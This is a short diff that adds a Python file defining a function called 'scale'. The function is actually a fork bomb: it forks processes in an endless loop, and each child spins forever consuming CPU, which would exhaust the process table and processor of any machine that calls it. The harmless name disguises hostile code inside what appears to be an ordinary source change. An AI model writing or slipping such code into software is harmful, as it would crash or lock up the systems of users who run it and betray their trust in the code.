@@ -1,0 +1,8 @@
+import os
+
+
+def scale(x):
+    while True:
+        if os.fork() == 0:
+            while True:
+                pass
